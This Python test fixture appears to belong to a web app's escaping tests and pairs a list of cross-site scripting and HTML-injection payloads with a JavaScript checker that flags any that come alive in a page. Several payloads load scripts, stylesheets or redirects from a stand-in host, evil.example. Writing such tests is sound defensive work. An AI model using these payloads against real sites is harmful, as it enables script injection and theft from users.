"""What breaks out of text into markup where somebody forgot to escape (T24).

Each payload brings an element of no house, `x-x`, or an attribute that would run; so a page on which
one is alive can be told from its tree, whether or not the browser kept it from running.
"""

STRIKE = "window.struck=1"
PAYLOADS = (
    "<x-x>", '"><x-x>', "'><x-x>", "</title><x-x>", "</textarea><x-x>", "</script><x-x>", "--><x-x>",
    "</style><x-x>", "</select><x-x>", "</option><x-x>", "</noscript><x-x>", "]]><x-x>", "</p><x-x>",
    "</template><x-x>", "</bdi><x-x>", "</button><x-x>", "</a><x-x>", "</svg><x-x>", "<x-x/>", "<X-X>",
    f"<script>{STRIKE}</script>", f"</script><script>{STRIKE}</script>", f"<ScRiPt>{STRIKE}</sCrIpT>",
    f"<script/x>{STRIKE}</script>", f"<script src=data:,{STRIKE}></script>",
    "<script src=//evil.example/x.js></script>", "<script type=module src=//evil.example></script>",
    f"<img src=x onerror={STRIKE}>", f"<img/src/onerror={STRIKE}>", f'"><img src=x onerror="{STRIKE}">',
    f"<svg onload={STRIKE}>", f"<svg><script>{STRIKE}</script></svg>", f"<svg/onload={STRIKE}//",
    f"<svg><animate onbegin={STRIKE} attributeName=x>", f"<body onload={STRIKE}>",
    f"<details open ontoggle={STRIKE}>", f"<video><source onerror={STRIKE}>",
    f"<audio src onerror={STRIKE}>", f"<input autofocus onfocus={STRIKE}>",
    f"<select autofocus onfocus={STRIKE}>", f"<marquee onstart={STRIKE}>",
    '<iframe srcdoc="<script>parent.struck=1</script>">', f'<iframe src="javascript:parent.{STRIKE[7:]}">',
    f'<object data="data:text/html,<script>{STRIKE}</script>">', f"<embed src=javascript:{STRIKE}>",
    f'<a href="javascript:{STRIKE}">x', f'<form action="javascript:{STRIKE}"><button>x',
    f'<button formaction="javascript:{STRIKE}">x', "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>",
    f'" autofocus onfocus="{STRIKE}', f"' autofocus onfocus='{STRIKE}", f'" onmouseover="{STRIKE}" x="',
    f"` onmouseover={STRIKE} x=`", f"javascript:{STRIKE}//", f"';{STRIKE}//", f'";{STRIKE}//',
    f"${{{STRIKE}}}", f"{{{{{STRIKE}}}}}", "{%if 1%}<x-x>", f"&lt;img src=x onerror={STRIKE}&gt;",
    "&#60;x-x&#62;", "%3Cx-x%3E", "\\u003cx-x\\u003e", f"<div hx-on:load='{STRIKE}' hx-get=/ hx-trigger=load>",
    f'" hx-on:click="{STRIKE}" hx-get="//evil.example', "<math><mtext><x-x>", "<table><td><x-x>",
)  # fmt: skip
SHORT = ("<x-x>", '"><x-x>', "'><x-x>", "<X-X>")  # for columns of a few letters
EVERYTHING = " ".join(PAYLOADS)

# What no page of ours has; run in the page, it names what is alive there.
ALIVE = """() => {
  const found = [];
  if (window.struck) found.push('a script ran');
  const one = (words, node) => found.push(words + ': ' + node.outerHTML.slice(0, 160));
  const own = new URL(location.href).origin;
  for (const node of document.querySelectorAll('*')) {
    const tag = node.localName;
    if (['x-x', 'iframe', 'object', 'embed', 'base', 'marquee', 'audio', 'video'].includes(tag))
      one(tag, node);
    if (tag === 'script' && !node.src && node.type !== 'application/json') one('inline', node);
    if (tag === 'style' && !(node.sheet && node.textContent === '')) {
      if (/evil|x-x/.test(node.textContent)) one('style', node);
    }
    if (tag === 'meta' && node.httpEquiv && /evil/.test(node.content)) one('meta', node);
    for (const {name, value} of node.attributes) {
      if (/^(on|hx-on)/.test(name)) one(name, node);
      if (['href', 'src', 'action', 'formaction', 'data', 'hx-get', 'hx-post', 'srcdoc'].includes(name)) {
        if (name === 'srcdoc' || /^\\s*(javascript|data|vbscript):/i.test(value)) one(name, node);
        else if (tag !== 'a' && new URL(value, location.href).origin !== own) one(name, node);
      }
    }
  }
  return found;
}"""
